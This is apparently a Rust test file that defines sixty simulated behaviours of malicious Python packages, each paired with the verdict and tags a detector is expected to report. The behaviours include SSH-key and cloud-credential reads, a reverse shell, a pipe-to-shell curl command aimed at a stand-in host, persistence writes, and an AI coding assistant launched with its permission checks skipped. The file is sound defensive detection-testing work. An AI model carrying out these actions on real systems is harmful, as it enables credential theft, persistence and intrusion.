//! What packages that harm did, and what each comes to.

use pyti_model::effect::{Changed, Limit};
use pyti_model::outcome::Verdict::{Clean, Harmful, Notable, Suspicious};
use pyti_model::raw::{Import, ImportOutcome, Install, ModuleImport, RawData, WheelComparison};
use pyti_model::trace::{DecoyUse, Deed, Origin};

use super::super::world::{SINK, World};
use super::{AWS, Row, SITE, becomes, fails, home, import, installed, many, refused, start};

pub(super) fn behaviours() -> Vec<Row> {
    let post = |world: World, host: &str| world.asks("POST", host, "/in", "what was found");
    vec![
        (
            1,
            Suspicious,
            &["machine-facts-sent"],
            World::of("build")
                .read("/etc/passwd")
                .asks("GET", "probe.example", "/ping?host=a&user=b&folder=c", "")
                .with_secret("machine.host"),
        ),
        (
            2,
            Harmful,
            &["decoy-read", "decoy-read-then-contact", "decoy-sent", "somebody-contacted"],
            post(import().read(AWS), "collector.example").with_secret("aws.credentials"),
        ),
        (
            3,
            Harmful,
            &["decoy-sent", "somebody-contacted"],
            post(import(), "collector.example").with_secret("env.AWS_SECRET_ACCESS_KEY"),
        ),
        (4, Notable, &["foreign-environ-read"], import().read("/proc/99/environ")),
        (
            5,
            Suspicious,
            &["decoy-read", "ssh-keys-read"],
            import().list(&home(".ssh")).read(&home(".ssh/id_rsa")),
        ),
        (
            6,
            Suspicious,
            &["home-swept"],
            many(import().list("/home/dev"), 30, |w, n| {
                let folder = format!("/home/dev/d{}", n % 7);
                w.list(&folder).read(&format!("{folder}/{n}.txt"))
            }),
        ),
        (
            7,
            Suspicious,
            &["decoy-read", "many-tools-secrets-read"],
            import().read(&home(".pypirc")).read(&home(".npmrc")).read(&home(".config/gh/hosts.yml")),
        ),
        (
            8,
            Harmful,
            &["browser-profile-read", "decoy-read", "decoy-written"],
            import().read(&home(".config/google-chrome/Default/Login Data")).write("/tmp/copy.db").uses(
                "browser.logins",
                DecoyUse::Written {
                    encoding: "raw".into(),
                    path: "/tmp/copy.db".into(),
                },
            ),
        ),
        (
            9,
            Suspicious,
            &["wallets-probed"],
            import()
                .look(&home(".electrum/wallets"))
                .look(&home(".config/Exodus/exodus.wallet"))
                .look(&home(".bitcoin/wallet.dat"))
                .look(&home(".config/google-chrome/Default/Local Extension Settings/nkbih")),
        ),
        (
            10,
            Notable,
            &["keyring-asked"],
            fails(import().unix("/run/user/1000/bus"), "secret-tool search"),
        ),
        (
            11,
            Harmful,
            &["decoy-read", "decoy-read-then-contact", "kubernetes-secrets-asked", "service-account-token-read", "somebody-contacted"],
            import()
                .read(&home(".kube/config"))
                .read("/var/run/secrets/kubernetes.io/serviceaccount/token")
                .asks("GET", "kubernetes.test", "/api/v1/secrets", ""),
        ),
        (
            12,
            Suspicious,
            &["cloud-metadata-asked"],
            World::of("build")
                .connects("169.254.169.254", 80)
                .talks("metadata", "169.254.169.254", 80, "169.254.169.254", "PUT", "/latest/api/token", ""),
        ),
        (
            13,
            Suspicious,
            &["docker-socket-used", "privileged-container"],
            fails(import().unix("/var/run/docker.sock"), "docker run --privileged -v /:/host none.example/none"),
        ),
        (
            14,
            Harmful,
            &["somebody-contacted", "start-acts", "start-runs-code"],
            start("import sample\n", "sample").resolves("start.example"),
        ),
        (
            15,
            Harmful,
            &["sitecustomize-written"],
            import()
                .write(&format!("{SITE}/sitecustomize.py"))
                .write(&home(".local/lib/python3.13/site-packages/usercustomize.py"))
                .changes(&format!("{SITE}/sitecustomize.py"), Changed::Added, 50),
        ),
        (16, Harmful, &["shell-startup-written"], import().write(&home(".bashrc"))),
        (17, Harmful, &["cron-changed"], fails(import().write("/etc/cron.d/x"), "crontab -")),
        (
            18,
            Harmful,
            &["systemd-unit-written"],
            fails(
                import().write(&home(".config/systemd/user/sysmon.service")),
                "systemctl --user enable sysmon.service",
            ),
        ),
        (19, Harmful, &["autostart-written"], import().write(&home(".config/autostart/x.desktop"))),
        (20, Harmful, &["authorized-keys-written"], import().write(&home(".ssh/authorized_keys"))),
        (
            21,
            Harmful,
            &["preload-set", "preload-written"],
            import().write("/etc/ld.so.preload").does(Deed::Execute {
                path: "/usr/bin/true".into(),
                argv: vec!["true".into()],
                argv_dropped: 0,
                cwd: "/".into(),
                variables: vec!["LD_PRELOAD".into()],
                origin: Origin::System,
                sockets: Vec::new(),
            }),
        ),
        (
            22,
            Harmful,
            &["git-hooks-written"],
            import().write(&home("projects/app/.git/hooks/pre-commit")).write(&home(".gitconfig")),
        ),
        (
            23,
            Suspicious,
            &["assistant-config-written"],
            import().write(&home(".vscode/tasks.json")).write(&home(".cursor/mcp.json")),
        ),
        (
            24,
            Harmful,
            &["foreign-files-overwritten"],
            installed()
                .write(&format!("{SITE}/victim.py"))
                .changes(&format!("{SITE}/victim.py"), Changed::Modified, 90),
        ),
        (
            25,
            Suspicious,
            &["collector-contacted"],
            World::of("exercise").talks("http", "192.0.2.25", 80, "api.telegram.org", "POST", "/bot1/sendMessage", "x"),
        ),
        (
            26,
            Suspicious,
            &["command-jacking"],
            World::of("install").installs(Install {
                scripts: vec!["ls".into(), "aws".into(), "sample".into()],
                ..Install::default()
            }),
        ),
        (
            27,
            Harmful,
            &["downloaded-then-run", "somebody-contacted"],
            import()
                .asks("GET", "files.example", "/stage2", "")
                .write("/tmp/stage2")
                .does(Deed::Mode {
                    path: "/tmp/stage2".into(),
                    mode: 0o755,
                })
                .spawn()
                .executes("/tmp/stage2", "/tmp/stage2", Origin::Written, &[]),
        ),
        (
            28,
            Harmful,
            &["pipe-to-shell"],
            World::of("build")
                .spawn()
                .runs("sh -c curl -fsSL http://get.example/i | sh")
                .spawn()
                .runs("curl -fsSL http://get.example/i")
                .asks("GET", "get.example", "/i", ""),
        ),
        (
            29,
            Clean,
            &["decoded-code-run"],
            ["marshal.loads", "exec"].iter().fold(import(), |world, name| {
                world.does(Deed::Audit {
                    name: (*name).into(),
                    text: "<decoded>".into(),
                })
            }),
        ),
        (
            30,
            Notable,
            &["bundled-program-run"],
            installed().executes(&format!("{SITE}/sample/bin/helper"), "helper", Origin::Layer, &[]),
        ),
        (
            31,
            Harmful,
            &["nameless-program-run"],
            import()
                .does(Deed::Memory { name: "kworker".into() })
                .spawn()
                .executes("/memfd:kworker (deleted)", "kworker", Origin::Nameless, &[]),
        ),
        (
            32,
            Notable,
            &["picture-then-run", "somebody-contacted"],
            installed()
                .read(&format!("{SITE}/sample/logo.png"))
                .resolves("next.example")
                .connects(SINK, 443),
        ),
        (
            33,
            Notable,
            &["bytecode-only-import"],
            import().raw(RawData::Import(Import {
                modules: vec![ModuleImport {
                    module: "sample".into(),
                    top_level: true,
                    outcome: ImportOutcome::Imported,
                    wall_s: 0.1,
                    file: Some(format!("{SITE}/sample/core.pyc").into()),
                }],
            })),
        ),
        (
            34,
            Harmful,
            &["reverse-shell", "somebody-contacted"],
            import()
                .talks("raw", "192.0.2.34", 4444, "", "", "", "")
                .spawn()
                .executes("/usr/bin/dash", "sh -i", Origin::System, &[0, 1, 2]),
        ),
        (35, Suspicious, &["listener"], import().binds("0.0.0.0", 4444).listens("0.0.0.0", 4444)),
        (
            36,
            Harmful,
            &["dns-tunnel"],
            many(import(), 60, |w, n| {
                let name = format!("{n:032x}.{n}.ns.collector.example");
                w.resolves(&name).resolves(&name)
            }),
        ),
        (
            37,
            Suspicious,
            &["collector-contacted"],
            import()
                .connects("192.0.2.37", 80)
                .talks("http", "192.0.2.37", 80, "discord.com", "POST", "/api/webhooks/1/none", "{}"),
        ),
        (
            38,
            Suspicious,
            &["mail-sent"],
            import()
                .resolves("smtp.example")
                .talks("smtp", SINK, 587, "smtp.example", "AUTH", "PLAIN", ""),
        ),
        (
            39,
            Harmful,
            &["downloaded-then-run", "somebody-contacted", "tunnel-client", "tunnel-program-run"],
            import()
                .asks("GET", "files.example", "/cloudflared-linux-amd64", "")
                .write("/tmp/cloudflared")
                .spawn()
                .executes("/tmp/cloudflared", "/tmp/cloudflared tunnel", Origin::Written, &[])
                .resolves("region1.argotunnel.example"),
        ),
        (
            40,
            Notable,
            &["dead-drop-then-run"],
            import().talks("http", "192.0.2.40", 80, "raw.githubusercontent.com", "GET", "/a/orders.txt", ""),
        ),
        (
            41,
            Harmful,
            &["miner"],
            import()
                .resolves("pool.example")
                .connects(SINK, 3333)
                .talks("stratum", SINK, 3333, "pool.example", "mining.subscribe", "", ""),
        ),
        (
            42,
            Notable,
            &["clipboard-watched"],
            many(import().unix("/tmp/.X11-unix/X0"), 12, |w, _| fails(fails(w, "xclip -o"), "xsel -o")),
        ),
        (
            43,
            Suspicious,
            &["keys-or-screen-captured"],
            fails(import().read("/dev/input/event0").unix("/tmp/.X11-unix/X0"), "scrot /tmp/x.png"),
        ),
        (44, Harmful, &["process-flood"], World::of("start").limit(Limit::Processes)),
        (
            45,
            Harmful,
            &["home-destroyed"],
            many(import(), 8, |w, n| {
                let path = format!("/home/dev/notes/{n}.txt");
                w.write(&path).rename(&path, &format!("{path}.locked"))
            }),
        ),
        (
            46,
            Suspicious,
            &["kernel-thread-name", "outlives"],
            becomes(becomes(import().spawn(), "setsid", ""), "prctl set_name", "kworker/0:1").survives("python sample"),
        ),
        (
            47,
            Notable,
            &["machine-checked"],
            [
                "/sys/class/dmi/id/product_name", "/sys/class/dmi/id/sys_vendor", "/.dockerenv", "/proc/1/cgroup", "/proc/self/status",
                "/proc/uptime", "/proc/meminfo", "/sys/class/net/eth0/address", "/proc/scsi/scsi",
            ]
            .iter()
            .fold(import(), |world, path| world.read(path)),
        ),
        (48, Notable, &["idles", "somebody-contacted"], import().resolves("late.example").costs(45.3, 0.3)),
        (
            49,
            Notable,
            &["location-asked"],
            import()
                .read("/etc/timezone")
                .talks("http", "192.0.2.49", 80, "ipinfo.io", "GET", "/json", ""),
        ),
        (
            50,
            Suspicious,
            &["debugger-checked"],
            becomes(import().spawn(), "prctl set_dumpable", "").does(Deed::Ptrace {
                request: "traceme".into(),
                target: 0,
            }),
        ),
        (
            51,
            Harmful,
            &["process-memory-read"],
            import().read("/proc/77/maps").read("/proc/77/mem").does(Deed::ForeignMemory {
                target: 77,
                write: false,
            }),
        ),
        (
            52,
            Harmful,
            &["namespace-sought", "privilege-files-written", "sudo-run"],
            becomes(
                refused(refused(fails(import(), "sudo -n true"), "mount"), "unshare"),
                "setuid",
                "",
            )
            .write("/proc/sys/kernel/core_pattern"),
        ),
        (
            53,
            Suspicious,
            &["password-asked", "sudo-run"],
            fails(import().read("/dev/tty"), "sudo -S true"),
        ),
        (
            54,
            Harmful,
            &["history-wiped"],
            import()
                .does(Deed::Truncate {
                    path: "/home/dev/.bash_history".into(),
                })
                .remove(&home(".bash_history")),
        ),
        (
            55,
            Suspicious,
            &["own-files-removed"],
            installed()
                .remove(&format!("{SITE}/sample/_stage.py"))
                .write(&format!("{SITE}/sample/__init__.py")),
        ),
        (
            56,
            Suspicious,
            &["somebody-contacted", "sources-taken"],
            post(
                import().read(&home("projects/app/app.py")).read(&home("projects/app/settings.py")),
                "in.example",
            ),
        ),
        (
            57,
            Harmful,
            &["lateral-movement", "network-scanned"],
            fails(
                many(import().read(&home(".ssh/known_hosts")), 40, |w, n| w.connects(&format!("192.0.2.{n}"), 22)),
                "ssh -o BatchMode=yes -o ConnectTimeout=2 nobody@198.51.100.57 true",
            ),
        ),
        (
            58,
            Suspicious,
            &["installs-more"],
            World::of("build")
                .spawn()
                .runs("/home/dev/venv/bin/python -m pip install --retries 0 --index-url http://index.test/simple/ second")
                .asks("GET", "index.test", "/simple/second/", ""),
        ),
        (
            59,
            Notable,
            &["wheel-differs-from-source"],
            World::of("build").published(WheelComparison {
                only_published: vec!["sample/more.py".into()],
                ..WheelComparison::default()
            }),
        ),
        (
            60,
            Suspicious,
            &["assistant-run"],
            fails(import(), "claude --dangerously-skip-permissions -p nothing"),
        ),
    ]
}
